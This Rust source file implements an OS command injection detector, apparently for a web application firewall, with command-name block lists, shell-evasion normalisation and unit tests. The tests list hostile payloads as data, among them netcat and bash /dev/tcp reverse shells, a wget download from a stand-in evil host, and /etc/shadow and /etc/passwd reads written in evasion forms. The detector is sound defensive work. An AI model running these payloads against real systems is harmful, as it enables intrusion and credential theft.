//! OS command injection: a shell command after a command separator (`;` `|` `&&` newline,
//! backticks, `$(...)`), a binary called by its path, reverse-shell devices, and the usual shell
//! evasions undone first: quotes inside words (`c'a't`), backslashes (`c\at`), `$IFS`, empty
//! expansions (`$@`), brace expansion (`{cat,/etc/passwd}`), globs (`/???/c?t`).

use super::decode::{contains_str, excerpt, find_str, lower_folded_cow, AnyOf, ByteSet};
use super::scan::{group, Needles, Scan};
use super::Hit;
use rustc_hash::FxHashSet;
use std::borrow::Cow;
use std::sync::LazyLock;

/// Commands that are not ordinary words: after a separator they are a command whatever follows.
const DISTINCT: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "nslookup",
    "systeminfo",
    "tasklist",
    "taskkill",
    "wget",
    "curl",
    "ncat",
    "netcat",
    "nc",
    "telnet",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "busybox",
    "powershell",
    "pwsh",
    "cmd",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "lua",
    "gcc",
    "chmod",
    "chown",
    "chgrp",
    "chattr",
    "useradd",
    "usermod",
    "userdel",
    "passwd",
    "sudo",
    "crontab",
    "nohup",
    "xterm",
    "mkfifo",
    "mknod",
    "socat",
    "openssl",
    "base64",
    "xxd",
    "hexdump",
    "certutil",
    "bitsadmin",
    "regsvr32",
    "rundll32",
    "mshta",
    "wmic",
    "cscript",
    "wscript",
    "schtasks",
    "nmap",
    "tftp",
    "scp",
    "sftp",
    "ssh",
    "rsync",
    "rcp",
    "rsh",
    "rlogin",
    "getent",
    "whois",
    "traceroute",
    "tracert",
    "tcpdump",
    "iptables",
    "lsof",
    "pkill",
    "killall",
    "pwd",
    "ls",
    "tac",
    "nl",
    "grep",
    "egrep",
    "fgrep",
    "zgrep",
    "awk",
    "gawk",
    "nawk",
    "sed",
    "xargs",
    "printenv",
    "printf",
    "uptime",
    "hostname",
    "lsb_release",
    "dmesg",
    "umount",
    "rm",
    "rmdir",
    "mkdir",
    "cp",
    "mv",
    "tar",
    "gzip",
    "gunzip",
    "bzip2",
    "unzip",
    "7z",
    "dd",
    "shred",
    "reboot",
    "poweroff",
    "systemctl",
    "apt-get",
    "yum",
    "dnf",
    "apk",
    "readlink",
    "realpath",
    "whereis",
    "strace",
    "ltrace",
    "gdb",
    "vim",
    "nano",
    "sqlite3",
    "mysql",
    "psql",
    "mongo",
    "redis-cli",
    "kubectl",
    "docker",
    "nproc",
    "lscpu",
    "env",
    "cat",
    "id",
    "ps",
    "ping",
    "echo",
    "sleep",
    "expr",
    "eval",
    "exec",
    "del",
    "dir",
    "ver",
    "vol",
    "dig",
    "host",
    "net",
    "kill",
    "which",
    "touch",
    "chdir",
    "tee",
    "uniq",
    "wc",
    "od",
    "less",
    "more",
    "head",
    "tail",
    "sort",
    "find",
    "type",
    "set",
    "cut",
    "rev",
    "file",
    "stat",
    "time",
    "timeout",
    "source",
    "java",
    "node",
    "date",
    "mail",
    "ln",
    "df",
    "du",
    "who",
    "ftp",
    "at",
    "su",
    "whoami.exe",
    "cmd.exe",
    "powershell.exe",
    "net.exe",
    "certutil.exe",
    "wsl",
    "ruby",
    "irb",
    "jshell",
    "pip",
    "npm",
    "gem",
    "make",
    "cc",
    "tr",
    "jq",
    "mount",
    "service",
    "finger",
    "groups",
    "last",
    "arp",
    "route",
    "ip",
    "true",
    "false",
    "zcat",
    "zstdcat",
    "bzcat",
    "xzcat",
    "zless",
    "invoke-webrequest",
    "iwr",
    "invoke-expression",
    "iex",
    "invoke-restmethod",
    "irm",
    "start-process",
    "new-object",
    "invoke-command",
    "set-executionpolicy",
    // Binaries known for file reads and shell escapes (GTFOBins).
    "base32",
    "fold",
    "uconv",
    "lastlog",
    "visudo",
    "c89",
    "c99",
    "ssh-copy-id",
    "ssh-keygen",
    "systemd-run",
    "busctl",
    "ansible-playbook",
    "ansible-vault",
    "ansible-console",
    "chef-client",
    "chef-shell",
    "nohup",
    "nice",
    "flock",
    "cpulimit",
    "watch",
    "chroot",
    "command",
    "builtin",
];

/// Commands that run the command after them (`time curl x`, `nohup sh -c`).
const PREFIX: &[&str] = &[
    "time", "nohup", "nice", "timeout", "sudo", "env", "xargs", "flock", "cpulimit", "watch", "strace",
    "chroot", "exec", "command", "builtin",
];

/// Short tool names that are not words: after `&`, or right before a separator, they are commands.
const TECH: &[&str] = &[
    "id", "ls", "ps", "pwd", "env", "df", "du", "ln", "od", "nl", "wc", "tr", "cp", "mv", "rm", "dd", "sh",
    "nc", "ip", "arp", "irb", "awk", "sed", "grep", "ssh", "tar", "bash", "curl", "wget", "telnet", "whois",
    "printf", "passwd", "hostname", "cmd",
];

/// Commands whose name alone, as the whole value, is a probe (no one's name or search term).
const PROBES: &[&str] = &[
    "whoami",
    "ifconfig",
    "ipconfig",
    "netstat",
    "systeminfo",
    "tasklist",
    "nslookup",
    "getent",
    "lsb_release",
    "printenv",
];

/// Entries of [`DISTINCT`] that are also common words or answers ("cat", "id", "more", "find"):
/// these need a shell-like argument, a pipe or a stronger separator.
const WORDY: &[&str] = &[
    "cat", "id", "ps", "ping", "echo", "sleep", "expr", "eval", "exec", "del", "dir", "ver", "vol", "dig",
    "host", "net", "kill", "which", "touch", "tee", "uniq", "wc", "od", "less", "more", "head", "tail",
    "sort", "find", "type", "set", "cut", "rev", "file", "stat", "time", "timeout", "source", "java", "node",
    "date", "mail", "ln", "df", "du", "who", "ftp", "at", "su", "env", "pwd", "nc", "sh", "cc", "tr", "make",
    "mount", "service", "finger", "groups", "last", "route", "ip", "python", "perl", "ruby", "php", "lua",
    "cp", "mv", "rm", "ls", "dd", "gem", "pip", "npm", "ssh", "tar", "arp", "sed", "awk", "cmd", "bash",
    "nano", "vim", "irb", "apk", "grep", "curl", "wget", "whois", "mysql", "mongo", "docker", "telnet",
    "printf", "hostname", "passwd", "true", "false", "nice", "watch", "command", "builtin", "iex", "fold",
];

fn is_wordy(word: &str) -> bool {
    WORDY.contains(&word)
}

/// Matches a glob (`?`, `*`) against a word.
fn glob(pattern: &[u8], word: &[u8]) -> bool {
    match (pattern.first(), word.first()) {
        (None, None) => true,
        (Some(b'*'), _) => glob(&pattern[1..], word) || (!word.is_empty() && glob(pattern, &word[1..])),
        (Some(b'?'), Some(_)) => glob(&pattern[1..], &word[1..]),
        (Some(b'['), Some(w)) => match pattern.iter().position(|&c| c == b']') {
            Some(end) if end > 1 => {
                let (negate, set) = match pattern[1] {
                    b'!' | b'^' => (true, &pattern[2..end]),
                    _ => (false, &pattern[1..end]),
                };
                let mut hit = false;
                let mut k = 0;
                while k < set.len() {
                    if k + 2 < set.len() && set[k + 1] == b'-' {
                        hit |= (set[k]..=set[k + 2]).contains(w);
                        k += 3;
                    } else {
                        hit |= set[k] == *w;
                        k += 1;
                    }
                }
                hit != negate && glob(&pattern[end + 1..], &word[1..])
            }
            _ => false,
        },
        (Some(p), Some(w)) if p == w => glob(&pattern[1..], &word[1..]),
        _ => false,
    }
}

/// [`DISTINCT`] as a set: most words looked up are not commands, and a scan of the list costs
/// hundreds of comparisons.
static DISTINCT_SET: LazyLock<FxHashSet<&'static str>> = LazyLock::new(|| DISTINCT.iter().copied().collect());

/// The first two bytes of the entries of [`DISTINCT`], one bit per pair.
static DISTINCT_STARTS: LazyLock<Box<[u64; 1024]>> = LazyLock::new(|| {
    let mut bits = Box::new([0u64; 1024]);
    for c in DISTINCT {
        if let [a, b, ..] = c.as_bytes() {
            let i = usize::from(*a) << 8 | usize::from(*b);
            bits[i >> 6] |= 1 << (i & 63);
        }
    }
    bits
});

/// Whether an entry of [`DISTINCT`] starts with `a`, `b`.
fn starts_like_command(a: u8, b: u8) -> bool {
    let i = usize::from(a) << 8 | usize::from(b);
    DISTINCT_STARTS[i >> 6] & (1 << (i & 63)) != 0
}

/// The command a (possibly globbed) word stands for.
fn command_of(word: &str) -> Option<&'static str> {
    if word.is_empty() || word.len() > 40 {
        return None;
    }
    let globbed = word.bytes().any(|b| matches!(b, b'?' | b'*' | b'['));
    if let [a, b, ..] = word.as_bytes() {
        // Most words do not even start like a command.
        if !globbed && !starts_like_command(*a, *b) {
            return None;
        }
    }
    if let Some(c) = DISTINCT_SET.get(word) {
        return Some(c);
    }
    // Globs with more than a few `*` could make matching exponential; real ones have one or two.
    if globbed
        && word.bytes().any(|b| b.is_ascii_alphanumeric())
        && word.bytes().filter(|b| *b == b'*').count() <= 3
    {
        return DISTINCT
            .iter()
            .find(|c| glob(word.as_bytes(), c.as_bytes()))
            .copied();
    }
    None
}

/// Undoes shell quoting and expansion tricks (see the module documentation).
fn normalize(s: &str) -> String {
    // `+` is a space once a form decoder has run; `\n` typed as text is a newline to many sinks.
    let mut t = s
        .replace("\\n", "\n")
        .replace("\\r", "\n")
        .replace("\\t", " ")
        .replace('+', " ");
    // $IFS and ${IFS} (with any modifier) are whitespace; $@, $*, $0-$9 expand to nothing here.
    while let Some(p) = t.find("$ifs").or_else(|| t.find("${ifs")) {
        let end = if t[p..].starts_with("${") {
            t[p..].find('}').map_or(t.len(), |e| p + e + 1)
        } else {
            p + 4
        };
        t.replace_range(p..end, " ");
    }
    let b = t.as_bytes();
    let mut out = String::with_capacity(t.len());
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        match c {
            b'\'' | b'"' => {}
            b'\\' => {
                // A backslash escapes the next character, which stays.
                if let Some(n) = t.get(i + 1..i + 2) {
                    if n != "\\" {
                        out.push_str(n);
                        i += 2;
                        continue;
                    }
                }
            }
            b'$' if matches!(b.get(i + 1), Some(b'@') | Some(b'*') | Some(b'0'..=b'9')) => {
                i += 2;
                continue;
            }
            b'$' if b.get(i + 1) == Some(&b'(') && b.get(i + 2) == Some(&b')') => {
                i += 3;
                continue;
            }
            _ => {
                let len = match c {
                    0xc0..=0xdf => 2,
                    0xe0..=0xef => 3,
                    0xf0..=0xf7 => 4,
                    _ => 1,
                };
                out.push_str(t.get(i..i + len).unwrap_or(" "));
                i += len;
                continue;
            }
        }
        i += 1;
    }
    // {cat,/etc/passwd} is `cat /etc/passwd`.
    let mut result = String::with_capacity(out.len());
    let mut rest = out.as_str();
    while let Some(open) = rest.find('{') {
        let close = rest[open..].find('}').map(|c| open + c);
        match close {
            Some(close) if rest[open..close].contains(',') && !rest[open..close].contains(' ') => {
                result.push_str(&rest[..open]);
                result.push(' ');
                result.push_str(&rest[open + 1..close].replace(',', " "));
                result.push(' ');
                rest = &rest[close + 1..];
            }
            _ => {
                result.push_str(&rest[..=open]);
                rest = &rest[open + 1..];
            }
        }
    }
    result.push_str(rest);
    result
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Sep {
    Start,
    /// `;` `|` newline `&&` `||`
    Strong,
    /// A lone `&` (also "Tom & Jerry").
    Amp,
    /// Backtick or `$(`.
    Subst,
}

fn word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric()
        || matches!(
            b,
            b'_' | b'.' | b'/' | b'?' | b'*' | b'-' | b'~' | b'+' | b'[' | b']'
        )
}

/// Where the word at `i` is (after blanks, `(`, `{`, and an unset variable: `;$u cat x`). The
/// same in any ASCII case.
fn word_span(b: &[u8], i: usize) -> (usize, usize) {
    let mut j = i;
    while j < b.len() && (b[j] == b' ' || b[j] == b'\t' || b[j] == b'(' || b[j] == b'{') {
        j += 1;
    }
    // `;$u cat x`: an unset variable expands to nothing.
    if b.get(j) == Some(&b'$') {
        let mut k = j + 1;
        while k < b.len() && (b[k].is_ascii_alphanumeric() || b[k] == b'_') {
            k += 1;
        }
        if k > j + 1 && b.get(k) == Some(&b' ') {
            j = k + 1;
        }
    }
    let start = j;
    while j < b.len() && word_byte(b[j]) {
        j += 1;
    }
    (start, j)
}

/// A (lower-case) word's directory part and its base name without `.exe`; none when empty.
fn split_word(word: &str) -> Option<(&str, &str)> {
    let end = word
        .bytes()
        .rposition(|b| !matches!(b, b'.' | b'-'))
        .map_or(0, |p| p + 1);
    // Up to an ASCII byte: a character boundary.
    let word = word.get(..end)?;
    if word.is_empty() {
        return None;
    }
    let (dir, base) = match word.bytes().rposition(|b| b == b'/') {
        Some(p) => (&word[..p + 1], &word[p + 1..]),
        None => ("", word),
    };
    Some((dir, base.strip_suffix(".exe").unwrap_or(base)))
}

/// Whether the first word of a value, lower-cased, is a command (the first thing
/// [`command_at`] checks), without lower-casing the whole value.
fn starts_with_command(value: &str) -> bool {
    let (start, end) = word_span(value.as_bytes(), 0);
    let mut buf = [0u8; 64];
    let Some(word) = value.get(start..end).filter(|w| w.len() <= buf.len()) else {
        return true; // Long: let the full analysis decide.
    };
    let lower = &mut buf[..word.len()];
    lower.copy_from_slice(word.as_bytes());
    lower.make_ascii_lowercase();
    std::str::from_utf8(lower)
        .ok()
        .and_then(split_word)
        .is_some_and(|(_, base)| command_of(base).is_some())
}

/// Looks at the word at `i` (after a separator of kind `sep`).
fn command_at(s: &str, i: usize, sep: Sep, paranoia: u8) -> Option<&'static str> {
    command_at_depth(s, i, sep, paranoia, 0)
}

/// `depth`: how many prefix commands (`time nohup ...`) led here; bounded so that a value made of
/// prefixes cannot recurse deeply.
fn command_at_depth(s: &str, i: usize, sep: Sep, paranoia: u8, depth: u8) -> Option<&'static str> {
    let b = s.as_bytes();
    let (start, j) = word_span(b, i);
    let (dir, base) = split_word(s.get(start..j)?)?;
    let cmd = command_of(base)?;
    // /bin/x, /usr/bin/x and their globbed forms (/???/?at).
    let bin_dir = !dir.is_empty()
        && dir.starts_with('/')
        && (dir.contains("bin/") || (dir.contains(['?', '*', '[']) && dir.len() <= 12));
    if bin_dir && (sep != Sep::Amp || paranoia >= 2) {
        return Some("command by path");
    }
    // What follows the command.
    let mut k = j;
    while k < b.len() && (b[k] == b' ' || b[k] == b'\t') {
        k += 1;
    }
    let had_space = k > j;
    let next = b.get(k).copied();
    let end_or_sep =
        next.is_none_or(|n| matches!(n, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b')' | b'#'));
    // An option, a path, a redirection or a URL: how commands are written, not prose.
    let arg: &str = {
        let rest = &s[k..];
        let end = rest
            .find(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '`'))
            .unwrap_or(rest.len());
        &rest[..end]
    };
    let shell_arg = (had_space
        && (next.is_some_and(|n| matches!(n, b'-' | b'/' | b'~' | b'$' | b'.' | b'\\' | b'%'))
            || arg.contains("://")
            || arg.starts_with("c:")))
        || next.is_some_and(|n| n == b'>' || n == b'<');
    // A host or address argument: `ping 10.0.0.1`, `nslookup x.example.com`.
    let host_arg = (had_space && arg.split('.').count() >= 3 && arg.len() > 4)
        || (cmd == "net"
            && matches!(
                arg,
                "user" | "localgroup" | "view" | "share" | "use" | "group" | "accounts"
            ));
    // `sleep 5`: a time-based probe, only after a separator.
    let delay_arg =
        matches!(cmd, "sleep" | "timeout") && !arg.is_empty() && arg.bytes().all(|b| b.is_ascii_digit());
    let network = matches!(
        cmd,
        "net"
            | "ping"
            | "nslookup"
            | "dig"
            | "host"
            | "curl"
            | "wget"
            | "nc"
            | "ncat"
            | "telnet"
            | "ssh"
            | "ftp"
            | "tftp"
            | "whois"
            | "traceroute"
            | "tracert"
    );
    // `base64,` `sh=` `id:`: a word in data, not a command.
    if b.get(j)
        .is_some_and(|c| matches!(c, b',' | b'=' | b':' | b'"' | b'@'))
    {
        return None;
    }
    let wordy = is_wordy(cmd);
    let tech = TECH.contains(&cmd);
    // A separator right after the word: `id;`, `ls|`.
    let sep_next = !had_space && next.is_some_and(|n| matches!(n, b';' | b'|' | b'&' | b'`' | b'\n'));
    // `time curl x`, `nohup sh -c ...`: look at the command being run.
    if PREFIX.contains(&cmd) && had_space && depth < 3 {
        let mut k = j;
        // Skip options and their values.
        for _ in 0..4 {
            while k < b.len() && b[k] == b' ' {
                k += 1;
            }
            if b.get(k)
                .is_some_and(|c| *c == b'-' || c.is_ascii_digit() || *c == b'/')
            {
                while k < b.len() && b[k] != b' ' {
                    k += 1;
                }
            } else {
                break;
            }
        }
        if k > j {
            // After a wordy prefix at the start (`nice cat`), only a command-shaped remainder counts.
            let inner = match sep {
                Sep::Start => Sep::Amp,
                other => other,
            };
            if let Some(r) = command_at_depth(s, k, inner, paranoia, depth + 1) {
                return Some(r);
            }
        }
    }
    match sep {
        Sep::Subst => Some("command substitution"),
        Sep::Start => {
            if shell_arg
                || (paranoia >= 2 && host_arg)
                || ((tech || !wordy) && sep_next)
                || (PROBES.contains(&cmd) && end_or_sep)
            {
                Some("shell command")
            } else {
                None
            }
        }
        Sep::Strong => {
            if shell_arg || host_arg || delay_arg || end_or_sep || !wordy {
                Some("command after separator")
            } else {
                None
            }
        }
        Sep::Amp => {
            if shell_arg
                || delay_arg
                || (host_arg && network)
                || (!wordy && (end_or_sep || had_space))
                || (tech && end_or_sep)
            {
                Some("command after separator")
            } else {
                None
            }
        }
    }
}

/// Looks for an OS command in one decoded value. `header` holds values written by clients (User-Agent
/// and the like), where a command at the very start is not evidence.
#[cfg(test)]
pub fn detect(value: &str, paranoia: u8, header: bool) -> Option<Hit> {
    detect_in(value, Scan::of(value), paranoia, header)
}

/// [`detect`] of a value whose scan is `scan` ([`Scan::of`] the value).
pub(crate) fn detect_in(value: &str, scan: Scan, paranoia: u8, header: bool) -> Option<Hit> {
    let (bytes, needles) = (scan.bytes, scan.needles);
    if value.len() < 2 {
        return None;
    }
    // Most values have no separator, no shell syntax and none of the substrings below: then only
    // a command as their first word could be found, and that is checked without a lower-cased copy.
    const QUIET: ByteSet = ByteSet::of_bytes(b";\n\r|&`$<>\\+'\"{");
    const LOUD_GROUPS: u32 = group::DEV
        | group::IFS
        | group::COMSPEC
        | group::RUNNER
        | group::FOR
        | group::IF
        | group::DOLLAR_BRACE
        | group::DOLLAR_BRACKET
        | group::BIN
        | group::ARITHMETIC;
    if !needles.may(LOUD_GROUPS) && !bytes.any(QUIET) && (header || !starts_with_command(value)) {
        return None;
    }
    let lower = lower_folded_cow(value, bytes);
    let raw: &str = &lower;
    // What `raw` may contain: each step below is skipped when a character or a substring it
    // needs is absent (`needles` describes `raw`, the value's lower-cased form).
    let set = bytes.lower_folded();
    if set.any(ByteSet::of_bytes(b"/$%")) {
        let dev = needles.may(group::DEV) && set.may_contain("/dev/") && contains_str(raw, "/dev/");
        let ifs = needles.may(group::IFS) && set.has(b'$');
        for (needle, reason, may) in [
            ("/dev/tcp/", "reverse shell", dev),
            ("/dev/udp/", "reverse shell", dev),
            ("${ifs", "shell IFS evasion", ifs),
            ("$ifs$", "shell IFS evasion", ifs),
            (
                "%comspec%",
                "Windows shell variable",
                needles.may(group::COMSPEC) && set.has(b'%'),
            ),
        ] {
            if let Some(p) = may.then(|| find_str(raw, needle)).flatten() {
                return Some(Hit {
                    reason,
                    excerpt: excerpt(raw, p, 96),
                });
            }
        }
    }
    if let Some((reason, p)) = code_and_batch(raw, set, needles, paranoia) {
        return Some(Hit {
            reason,
            excerpt: excerpt(raw, p, 96),
        });
    }
    // Without quotes, backslashes, `+`, `$` or `{` there is nothing to undo.
    let (s, s_needles): (Cow<str>, _) = if set.any(ByteSet::of_bytes(b"\\+'\"${")) {
        // Undoing quotes can join substrings: nothing is known of the result.
        (Cow::Owned(normalize(raw)), Needles::UNKNOWN)
    } else {
        (Cow::Borrowed(raw), needles)
    };
    let b = s.as_bytes();
    let hit = |reason, at| {
        Some(Hit {
            reason,
            excerpt: excerpt(&s, at, 96),
        })
    };
    if !header {
        if let Some(r) = command_at(&s, 0, Sep::Start, paranoia) {
            return hit(r, 0);
        }
    }
    // Separators (a `\n` typed as text becomes one in `normalize`).
    let mut i = if set.any(ByteSet::of_bytes(b";\n\r|&`$<>\\")) {
        0
    } else {
        b.len()
    };
    while i < b.len() {
        let c = b[i];
        let (sep, len) = match c {
            b';' | b'\n' | b'\r' => (Sep::Strong, 1),
            b'|' => (Sep::Strong, if b.get(i + 1) == Some(&b'|') { 2 } else { 1 }),
            b'&' if b.get(i + 1) == Some(&b'&') => (Sep::Strong, 2),
            b'&' => (Sep::Amp, 1),
            b'`' => (Sep::Subst, 1),
            b'$' if b.get(i + 1) == Some(&b'(') => (Sep::Subst, 2),
            b'<' | b'>' if b.get(i + 1) == Some(&b'(') => (Sep::Subst, 2),
            _ => {
                i += 1;
                continue;
            }
        };
        // A User-Agent's `; ` and `(...)` are not commands unless strongly shaped.
        let sep = if header && sep == Sep::Strong && c == b';' {
            Sep::Amp
        } else {
            sep
        };
        if let Some(r) = command_at(&s, i + len, sep, paranoia) {
            return hit(r, i);
        }
        i += len;
    }
    // A binary's path after whitespace or `=`: `x=/bin/cat`, `foo /usr/bin/id`.
    let bin = s_needles.may(group::BIN) && set.may_contain("/bin/") && contains_str(&s, "bin/");
    for marker in ["/bin/", "/sbin/"] {
        if !bin {
            break;
        }
        let mut from = 0;
        while let Some(p) = find_str(&s[from..], marker).map(|p| from + p) {
            // After the character that ends the path's root (which may be wider than a byte).
            let root = s[..p]
                .char_indices()
                .rfind(|(_, c)| !(c.is_ascii_alphanumeric() || *c == '/' || *c == '_'))
                .map_or(0, |(q, c)| q + c.len_utf8());
            let prefix = &s[root..p];
            if matches!(prefix, "" | "/usr" | "/usr/local")
                && (root == 0 || !header)
                && command_of(
                    s[p + marker.len()..]
                        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-' || c == '.'))
                        .next()
                        .unwrap_or(""),
                )
                .is_some()
            {
                return hit("command by path", root);
            }
            from = p + marker.len();
        }
    }
    if paranoia >= 2 && s_needles.may(group::ARITHMETIC) && set.has(b'$') {
        if let Some(p) = find_str(&s, "$((") {
            return hit("shell arithmetic", p);
        }
    }
    None
}

/// Shapes that are commands whatever their separators: calls of the language functions that run
/// commands (`system('id')`), Windows batch loops and conditions, shell parameter tricks.
fn code_and_batch(s: &str, set: ByteSet, needles: Needles, paranoia: u8) -> Option<(&'static str, usize)> {
    // Every runner has `(`, `.` or `_`; one automaton says whether any of them is there at all.
    if set.any(ByteSet::of_bytes(b"(._")) && needles.has(group::RUNNER, || ANY_RUNNER.is_in(s)) {
        if let Some(found) = runner_call(s) {
            return Some(found);
        }
    }
    // for %x in (...) do ..., for /f "..." %%g in (...) do ... (with a `%` and a `(`)
    let batch_loop = needles.may(group::FOR) && set.may_contain("for %(");
    if let Some(p) = batch_loop.then(|| find_str(s, "for ")).flatten() {
        let rest = &s[p..];
        if let (Some(i), Some(d)) = (find_str(rest, " in "), find_str(rest, " do")) {
            if rest[..i].contains('%') && i < d && rest[i..d].contains('(') {
                return Some(("Windows batch loop", p));
            }
        }
    }
    // if [not] exist/defined/errorlevel, if %x%==..., if x==y goto
    let condition = needles.may(group::IF) && set.may_contain("if ");
    if let Some(p) = condition.then(|| find_str(s, "if ")).flatten() {
        let rest = &s[p + 3..s.len().min(p + 160)];
        let words: Vec<&str> = rest.split_whitespace().collect();
        let cond = words.iter().take(4).any(|w| {
            matches!(*w, "exist" | "defined" | "errorlevel" | "/i") || w.starts_with("%errorlevel%")
        });
        let compare = contains_str(rest, "==")
            || contains_str(rest, " equ ")
            || contains_str(rest, " neq ")
            || contains_str(rest, " gtr ");
        let action = words
            .iter()
            .any(|w| matches!(*w, "goto" | "echo" | "call" | "cmd" | "set" | "exit"));
        if (cond || compare) && action && (rest.contains('%') || cond) {
            return Some(("Windows batch condition", p));
        }
    }
    // ${PATH:0:1} (a slash), ${var#...}, ${var%...}: building characters from variables.
    if needles.may(group::DOLLAR_BRACE) && set.may_contain("${") {
        if let Some(p) = parameter_expansion(s, paranoia) {
            return Some(("shell parameter expansion", p));
        }
    }
    if paranoia >= 2
        && ((needles.may(group::DOLLAR_BRACKET) && set.has(b'$') && contains_str(s, "$["))
            || (set.has(b'(') && set.has(b'{') && s.replace(' ', "").contains("(){")))
    {
        return Some(("shell syntax", 0));
    }
    None
}

/// Where `${PATH:0:1}`, `${var#...}` or `${var%...}` builds characters from variables.
fn parameter_expansion(s: &str, paranoia: u8) -> Option<usize> {
    let b = s.as_bytes();
    let mut from = 0;
    while let Some(p) = find_str(&s[from..], "${").map(|p| from + p) {
        let name_end = (p + 2..b.len())
            .find(|&k| !(b[k].is_ascii_alphanumeric() || b[k] == b'_'))
            .unwrap_or(b.len());
        if name_end > p + 2
            && b.get(name_end)
                .is_some_and(|c| matches!(c, b':' | b'#' | b'%' | b'/' | b'^' | b','))
        {
            let inner = &s[name_end..s[name_end..].find('}').map_or(s.len(), |e| name_end + e)];
            let substring = inner.starts_with(':')
                && inner[1..]
                    .split(':')
                    .all(|n| !n.is_empty() && n.trim_start_matches('-').bytes().all(|c| c.is_ascii_digit()));
            if substring || !inner.starts_with(':') || paranoia >= 2 {
                return Some(p);
            }
        }
        from = p + 2;
    }
    None
}

/// Calls of the language functions that run commands.
pub(super) const RUNNERS: &[&str] = &[
    "system(",
    "passthru(",
    "shell_exec(",
    "popen(",
    "proc_open(",
    "pcntl_exec(",
    "exec(",
    "os.system(",
    "os.popen(",
    "subprocess.",
    "runtime.getruntime(",
    "child_process",
    "spawnsync(",
    "execsync(",
];

/// Whether any of [`RUNNERS`] is in a value (one pass instead of one search per runner).
static ANY_RUNNER: LazyLock<AnyOf> = LazyLock::new(|| AnyOf::new(RUNNERS));

/// `system('id')`: a runner (in [`RUNNERS`] order) called with a string, a variable or a list.
fn runner_call(s: &str) -> Option<(&'static str, usize)> {
    for r in RUNNERS {
        let mut from = 0;
        while let Some(p) = find_str(&s[from..], r).map(|p| from + p) {
            let before_ok =
                p == 0 || !s.as_bytes()[p - 1].is_ascii_alphanumeric() && s.as_bytes()[p - 1] != b'_';
            let arg = s[p + r.len()..].trim_start();
            let arg_ok =
                r.ends_with('.') || *r == "child_process" || arg.starts_with(['\'', '"', '`', '$', '[']);
            if before_ok && arg_ok {
                return Some(("code that runs a command", p));
            }
            from = p + r.len();
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> bool {
        detect(s, 1, false).is_some()
    }

    #[test]
    fn commands_after_separators() {
        for attack in [
            "; id",
            "x;id;",
            "127.0.0.1 | whoami",
            "foo && cat /etc/hosts",
            "a || uname -a",
            "& ping -c 9 10.0.0.1 &",
            "`id`",
            "$(sleep 5)",
            "x\nls -la",
            "/usr/bin/id",
            "a;/bin/busybox telnetd",
            "|nc -e /bin/sh 10.0.0.1 4444",
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
            "cat /etc/shadow",
            "wget http://evil.example/x.sh -O /tmp/x",
            "; powershell -enc ZQBjAGgAbwA=",
            "& cmd.exe /c dir",
            "|net user",
            "1;sleep 5",
        ] {
            assert!(hit(attack), "missed {attack:?}");
        }
    }

    #[test]
    fn shell_evasions() {
        for attack in [
            ";c'a't /etc/passwd",
            ";c\\at /etc/passwd",
            ";cat${IFS}/etc/passwd",
            ";cat$IFS$9/etc/passwd",
            ";{cat,/etc/passwd}",
            ";/???/c?t /etc/passwd",
            ";w$@hoami",
            "|WHOAMI",
            "id;",
            "& id",
            "+|+dir+c:/",
            ";system('id')",
            "/bi[n]/bash -c x",
            "time curl evil.example.com",
            "FOR /F %%G IN ('dir') DO echo %%G",
            "IF %ERRORLEVEL% EQU 2 goto x",
            ";$u cat /etc/hosts",
            "${PATH:0:1}bin${PATH:0:1}sh",
            "Invoke-WebRequest http://x.example/a.ps1",
            "\\nid\\n",
        ] {
            assert!(hit(attack), "missed {attack:?}");
        }
    }

    #[test]
    fn wide_character_before_a_binary_path() {
        // The root of the path ends after `é` (two bytes): this used to slice inside it.
        assert!(detect("é/bin/cat", 1, false).is_some());
        assert!(detect("é/bin/x", 1, false).is_none());
    }

    #[test]
    fn benign_text() {
        for ok in [
            "Tom & Jerry",
            "Books, music & more",
            "salt & pepper; sugar",
            "cat food",
            "id",
            "python tutorial",
            "find a doctor",
            "rock & roll | jazz",
            "sort=date&order=desc",
            "R&D; Q&A",
            "more info; see below",
            "price: $5 (approx)",
            "a/b/c",
            "/usr/share/doc/readme",
            "time to go",
            "sleep 8 hours",
            "for the kids in the family do this",
            "if you like it, echo it",
            "the system (as designed)",
            "${HOME}/bin",
            "C++ developer",
            "2+2=4",
            "nice cat",
            "echo chamber",
            "uname",
            "ping 127.0.0.1",
            "data://text/plain;base64,SGVsbG8=",
        ] {
            assert!(
                detect(ok, 1, false).is_none(),
                "false positive on {ok:?}: {:?}",
                detect(ok, 1, false)
            );
        }
        for ua in [
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
            "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
            "curl/8.5.0",
            "Wget/1.21.4",
            "python-requests/2.31.0",
        ] {
            assert!(detect(ua, 1, true).is_none(), "false positive on {ua:?}: {:?}", detect(ua, 1, true));
        }
    }
}
